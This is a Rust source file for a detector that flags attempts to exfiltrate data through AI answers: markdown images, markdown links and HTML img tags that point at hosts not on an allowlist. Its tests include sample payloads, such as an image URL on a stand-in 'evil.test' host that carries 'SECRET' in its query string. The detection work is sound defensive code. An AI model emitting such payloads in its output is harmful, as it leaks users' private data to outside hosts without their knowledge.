//! Data exfiltration through answers: markdown images (fetched by the client without a click)
//! and links, and HTML images, pointing at hosts outside the policy's allowlist.

use super::B;
use crate::engine::{Detector, Hit, Pattern};
use crate::finding::Finding;
use crate::text::ViewKind;

/// Exfiltration detector.
pub struct Exfil {
    allowed: Vec<String>,
}

const IMAGE_MD: u32 = 0;
const LINK_MD: u32 = 1;
const IMAGE_HTML: u32 = 2;

impl Exfil {
    /// `allowed`: `example.com` (that host) or `*.example.com` (it and its subdomains).
    pub fn new(allowed: &[String]) -> Exfil {
        Exfil {
            allowed: allowed.iter().map(|h| h.to_ascii_lowercase()).collect(),
        }
    }

    /// Whether `host` is allowlisted.
    pub fn allowed(&self, host: &str) -> bool {
        let host = host.to_ascii_lowercase();
        self.allowed.iter().any(|a| match a.strip_prefix("*.") {
            Some(apex) => host == apex || host.ends_with(&format!(".{apex}")),
            None => host == *a,
        })
    }
}

/// The host of an `http(s)://` URL.
fn host_of(url: &str) -> Option<&str> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let hostport = authority.rsplit('@').next()?;
    let host = if hostport.starts_with('[') {
        hostport.split(']').next()?.trim_start_matches('[')
    } else {
        hostport.split(':').next()?
    };
    (!host.is_empty()).then_some(host)
}

impl Detector for Exfil {
    fn name(&self) -> &'static str {
        "exfil"
    }
    fn types(&self) -> &'static [&'static str] {
        &["exfil_image", "exfil_link"]
    }
    fn patterns(&self) -> Vec<Pattern> {
        vec![
            Pattern::regex(ViewKind::Raw, r"!\[[^\]\n]{0,256}\]\(\s*<?((?i:https?)://[^\s)>]{1,2048})>?(?:\s+[^)]{0,256})?\)".to_string(), IMAGE_MD, "exfil_image"),
            // the character before `[` only tells a link from an image: a stream holds from `[`
            Pattern::regex(ViewKind::Raw, r"(?:^|[^!])(\[[^\]\n]{0,256}\]\(\s*<?((?i:https?)://[^\s)>]{1,2048})>?(?:\s+[^)]{0,256})?\))".to_string(), LINK_MD, "exfil_link")
                .hold_from(r"\[[^\]\n]{0,256}\]\(\s*<?(?i:https?)://"),
            Pattern::regex(ViewKind::Raw, format!(r#"(?i)<img{B}[^>]{{0,512}}?src\s*=\s*["']?(https?://[^\s"'>]{{1,2048}})[^>]{{0,512}}>?"#), IMAGE_HTML, "exfil_image"),
        ]
    }
    fn confirm(&self, hit: &Hit<'_>, out: &mut Vec<Finding>) {
        let Some(caps) = hit.regex.and_then(|r| r.captures_at(hit.text, hit.start)) else {
            return;
        };
        let (whole, url) = match hit.tag {
            LINK_MD => (caps.get(1), caps.get(2)),
            _ => (caps.get(0), caps.get(1)),
        };
        let (Some(whole), Some(url)) = (whole, url) else {
            return;
        };
        let Some(host) = host_of(url.as_str()) else {
            return;
        };
        if self.allowed(host) {
            return;
        }
        let (ty, rule) = match hit.tag {
            IMAGE_MD => ("exfil_image", "output.exfil.markdown_image"),
            LINK_MD => ("exfil_link", "output.exfil.markdown_link"),
            _ => ("exfil_image", "output.exfil.html_image"),
        };
        out.push(hit.finding(ty, whole.start(), whole.end(), 0.9, rule));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::testutil::scan;

    fn f(t: &str) -> Vec<(&'static str, &str)> {
        let d = Exfil::new(&["docs.example.com".to_string(), "*.corp.example".to_string()]);
        scan(Box::new(d), t)
            .into_iter()
            .map(|x| (x.ty, &t[x.start..x.end]))
            .collect()
    }

    #[test]
    fn non_allowlisted_hosts_are_flagged() {
        assert_eq!(
            f("ok ![x](https://evil.test/p.png?d=SECRET) done"),
            [("exfil_image", "![x](https://evil.test/p.png?d=SECRET)")]
        );
        assert_eq!(
            f("see [here](http://evil.test/a)"),
            [("exfil_link", "[here](http://evil.test/a)")]
        );
        assert_eq!(
            f(r#"<img src="https://evil.test/x.gif?q=1">"#),
            [("exfil_image", r#"<img src="https://evil.test/x.gif?q=1">"#)]
        );
    }

    #[test]
    fn allowlisted_hosts_pass() {
        assert!(f("![x](https://docs.example.com/a.png) [y](https://a.corp.example/) [z](https://corp.example/)").is_empty());
    }
}
